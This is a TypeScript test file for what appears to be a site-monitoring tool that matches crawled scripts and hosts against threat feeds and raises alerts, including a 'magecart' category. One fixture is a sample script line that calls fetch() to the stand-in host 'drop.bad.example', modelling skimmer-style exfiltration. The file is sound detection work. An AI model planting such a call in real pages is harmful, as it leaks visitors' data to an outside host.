import assert from 'node:assert/strict';
import { checkEverything, tickFeeds } from '../../../server/feeds/jobs.ts';
import { sha256 } from '../../../core/encoding/index.ts';
import {
  enqueueJob,
  listChanges,
  listJobs,
  listScripts,
  removeFeed,
  type Store,
} from '../../../server/store/index.ts';
import { crawlOnce, watchedShop } from '../pipeline/site.ts';
import type { MadePage } from '../store/captures.ts';
import { onEveryDatabase } from '../store/databases.ts';
import { bring, makeFeed } from './lists.ts';

const home = 'https://shop.example/';
const script = { body: 'var shown = 1; document.title = shown', url: 'https://cdn.example/app.js' };
const naming = { body: "fetch('https://drop.bad.example/x?' + 1)", url: 'https://shop.example/own.js' };

const contact = (host: string) => ({
  host,
  scheme: 'https',
  resourceTypes: ['Script'],
  requests: 1,
  failed: 0,
  firstUrl: `https://${host}/`,
  initiator: { kind: 'parser' as const },
});
const page = (hosts: string[], ...scripts: NonNullable<MadePage['scripts']>): MadePage => ({
  url: home,
  scripts,
  visit: { connections: hosts.map(contact) },
});

async function told(store: Store, siteId: number): Promise<string[]> {
  const { items } = await listChanges(store.db, { siteId, kinds: ['feed-match'], order: 'oldest' });
  return items.map(({ severity, subject, after }) => {
    const { present } = after as { present: boolean };
    return `${severity} ${subject.url ?? subject.id} ${present ? 'present' : 'past'}`;
  });
}
const verdicts = async (store: Store, siteId: number): Promise<string[]> =>
  (await listScripts(store.db, { siteId })).items
    .map((one) => `${one.url ?? ''} ${one.verdict ?? ''}`)
    .sort();

onEveryDatabase('what threat feeds say of sites', (databases) => {
  it('is told with the crawl that meets it, once while it lasts', async () => {
    const store = await databases.open();
    const { context, site, siteId } = await watchedShop(store);
    await makeFeed(store, 'bad.example');
    site.show(page(['cdn.example'], script));
    assert.deepEqual(await crawlOnce(context, siteId), []);
    site.show(page(['cdn.example', 'drop.bad.example'], script));
    const changes = await crawlOnce(context, siteId);
    assert.ok(changes.includes('critical feed-match drop.bad.example'), changes.join());
    assert.deepEqual(await crawlOnce(context, siteId), []);
    site.show(page(['cdn.example'], script));
    assert.deepEqual(await crawlOnce(context, siteId), ['info host-removed https://shop.example/']);
    site.show(page(['cdn.example', 'drop.bad.example'], script));
    assert.ok((await crawlOnce(context, siteId)).includes('critical feed-match drop.bad.example'));
  });

  it('is found in what is stored when a list changes, and told once', async () => {
    const store = await databases.open();
    const { context, site, siteId } = await watchedShop(store);
    site.show(page(['cdn.example'], script, naming));
    await crawlOnce(context, siteId);
    assert.deepEqual(await verdicts(store, siteId), [`${script.url} benign`, `${naming.url} benign`]);
    await makeFeed(store, `${sha256(script.body)}\ncdn.example`);
    await checkEverything(store, Date.now);
    assert.deepEqual(await told(store, siteId), [
      'critical cdn.example present',
      `critical ${script.url} present`,
      `critical ${script.url} present`,
    ]);
    assert.deepEqual(await verdicts(store, siteId), [`${script.url} malicious`, `${naming.url} benign`]);
    await checkEverything(store, Date.now);
    await crawlOnce(context, siteId);
    assert.equal((await told(store, siteId)).length, 3);
    assert.deepEqual(await verdicts(store, siteId), [`${script.url} malicious`, `${naming.url} benign`]);
  });

  it('counts a host that a script names', async () => {
    const store = await databases.open();
    const { context, site, siteId } = await watchedShop(store);
    site.show(page([], naming));
    await crawlOnce(context, siteId);
    await makeFeed(store, 'bad.example', { severity: 'high', category: 'magecart' });
    await checkEverything(store, Date.now);
    assert.deepEqual(await told(store, siteId), [`high ${naming.url} present`]);
    const [summary] = (await listScripts(store.db, { siteId })).items;
    assert.deepEqual([summary?.verdict, summary?.category], ['suspicious', 'magecart']);
  });

  it('is told of what is gone, too: visitors met it', async () => {
    const store = await databases.open();
    const { context, site, siteId } = await watchedShop(store);
    site.show(page(['drop.bad.example'], script));
    await crawlOnce(context, siteId);
    site.show(page([]));
    await crawlOnce(context, siteId);
    await makeFeed(store, `bad.example\n${script.url}`);
    await checkEverything(store, Date.now);
    assert.deepEqual(await told(store, siteId), [
      'critical drop.bad.example past',
      `critical ${script.url} past`,
    ]);
    await checkEverything(store, Date.now);
    assert.equal((await told(store, siteId)).length, 2);
  });

  it('counts no longer when the list forgets it', async () => {
    const store = await databases.open();
    const { context, site, siteId } = await watchedShop(store);
    const feed = await makeFeed(store, sha256(script.body));
    site.show(page([], script));
    await crawlOnce(context, siteId);
    assert.deepEqual(await verdicts(store, siteId), [`${script.url} malicious`]);
    await bring(store, 'bad', 'other.example');
    await checkEverything(store, Date.now);
    assert.deepEqual(await verdicts(store, siteId), [`${script.url} benign`]);
    await bring(store, 'bad', sha256(script.body));
    await checkEverything(store, Date.now);
    assert.equal((await told(store, siteId)).length, 2);
    await removeFeed(store.db, feed.id);
    await checkEverything(store, Date.now);
    assert.deepEqual(await verdicts(store, siteId), [`${script.url} benign`]);
  });

  it('is looked for again by itself after a list changed, and only then', async () => {
    const store = await databases.open();
    const queue = { enqueue: enqueueJob };
    const checks = async (): Promise<number> => (await listJobs(store.db, { kind: 'feed-check' })).length;
    await tickFeeds(store, queue, 1);
    assert.equal(await checks(), 0);
    await makeFeed(store, 'bad.example');
    await tickFeeds(store, queue, 2);
    await tickFeeds(store, queue, 3);
    assert.equal(await checks(), 1);
    // It runs while the list changes again: the next one follows.
    await bring(store, 'bad', 'other.example');
    await tickFeeds(store, queue, 4);
    assert.equal(await checks(), 1);
    await store.db.updateTable('jobs').set({ state: 'done' }).execute();
    await tickFeeds(store, queue, 5);
    assert.equal(await checks(), 2);
  });
});
